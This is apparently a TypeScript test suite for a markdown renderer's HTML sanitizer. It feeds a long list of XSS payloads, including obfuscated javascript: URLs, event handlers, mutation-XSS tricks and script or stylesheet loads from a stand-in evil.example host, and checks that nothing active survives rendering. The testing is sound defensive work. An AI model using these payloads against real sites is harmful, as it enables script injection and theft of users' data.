import type { Element, Nodes } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { expect, test } from 'vitest';
import { render } from './render-with.ts';

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/a.png">',
  '<img src="\\\\evil.example/a.png" alt="a">',
  '<img src="//evil.example/a.png" alt="a">',
  '![a](javascript:alert(1))',
  '![a](//evil.example/a.png)',
  '![a](data:text/html,<script>alert(1)</script>)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](&#x6A;avascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](<\u0001javascript:alert(1)>)',
  '[a](< javascript:alert(1)>)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="#" onclick="alert(1)">a</a>',
  '<a href="https://a.example/" target="_blank" rel="opener" ping="https://evil.example/">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="blob:https://a.example/1">a</a>',
  '<p style="position:fixed;inset:0">a</p>',
  '<p class="source-footer">a</p>',
  '<style>body{display:none}</style>',
  '<style>@import "//evil.example/a.css";',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<iframe src="//evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="evil.swf"></object>',
  '<embed src="evil.swf">',
  '<applet code="Evil"></applet>',
  '<form action="//evil.example/"><input name="a"><button>b</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onchange=alert(1)><option>a</option></select>',
  '<textarea>a</textarea>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<isindex action="javascript:alert(1)">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><foreignObject><iframe src="//evil.example/"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">a</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<video src="//evil.example/a.mp4" onloadstart=alert(1)></video>',
  '<audio src="//evil.example/a.mp3" autoplay></audio>',
  '<picture><source srcset="//evil.example/a.webp"><img src="//evil.example/a.png"></picture>',
  '<body onload=alert(1)>',
  '<html><head><title>a</title></head></html>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<blockquote cite="javascript:alert(1)">a</blockquote>',
  '<table background="javascript:alert(1)"><tr><td background="x">a</td></tr></table>',
  '<div contenteditable onblur=alert(1) tabindex=1 autofocus accesskey=a>a</div>',
  '<x-evil onclick=alert(1)>a</x-evil>',
  '<slot name="a"></slot><portal src="//evil.example/"></portal>',
  '<dialog open>a</dialog>',
  '<p id="page-main">a</p><p name="getElementById">b</p>',
  '`<script>alert(1)</script>`',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: </section><script>alert(1)</script>',
  '![a](x.png "<script>alert(1)</script>\\" onload=\\"alert(1)")',
  '# <script>alert(1)</script> "><img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

test.each(hostile)('%s becomes nothing that acts', (markdown) => {
  expect(activeIn(render(`Before.\n\n${markdown}\n\nAfter.`).html)).toEqual([]);
});

test('all of it together becomes nothing that acts', () => {
  expect(activeIn(render(hostile.join('\n\n')).html)).toEqual([]);
});

test('the judge sees what acts', () => {
  const html =
    '<p style="a"><script></script><a href="javascript:1">a</a><img src="//a.example/"><b onclick="a">b</b></p>';
  expect(activeIn(html)).toEqual(['p[style]', 'script', 'a[href]', 'img[src]', 'b[onclick]']);
});

/** What a browser would run, load, submit or be restyled by, found in the tree that a browser would build. */
function activeIn(html: string): string[] {
  const found: string[] = [];
  const judge = (node: Nodes): void => {
    if (node.type === 'element') found.push(...faultsOf(node));
    if ('children' in node) for (const child of node.children) judge(child);
  };
  judge(unified().use(rehypeParse, { fragment: true }).parse(html));
  return found;
}

function faultsOf({ tagName, properties }: Element): string[] {
  if (!passive.has(tagName)) return [tagName];
  return Object.entries(properties)
    .filter(([name, value]) => !isHarmless(tagName, name.toLowerCase(), String(value)))
    .map(([name]) => `${tagName}[${name.toLowerCase()}]`);
}

function isHarmless(tagName: string, name: string, value: string): boolean {
  if (name === 'href') return /^(?:https?:|mailto:|tel:|#|\/(?![\\/]))/u.test(value);
  if (name === 'src') return tagName === 'img' && /^\/(?![\\/])/u.test(value);
  if (name === 'srcset')
    return tagName === 'source' && value.split(', ').every((one) => /^\/(?![\\/])\S+ \d+w$/u.test(one));
  if (name === 'id') return !value.startsWith('page-');
  if (name === 'classname')
    return /^(?:align-\w+|language-\S+|table-scroll|attribution|footnotes|data-footnote-backref)$/u.test(
      value,
    );
  if (name === 'tabindex') return value === '0' && ['pre', 'div'].includes(tagName);
  return harmless.has(name);
}

const passive = new Set(
  (
    'a abbr b bdi bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 ' +
    'h6 hr i img ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strong sub summary sup table tbody ' +
    'td tfoot th thead time tr u ul var wbr'
  ).split(' '),
);

const harmless = new Set(
  (
    'alt width height loading decoding rel title lang dir open datetime scope colspan rowspan sizes start type value ' +
    'datafootnotes datafootnoteref datafootnotebackref ariadescribedby arialabel'
  ).split(' '),
);
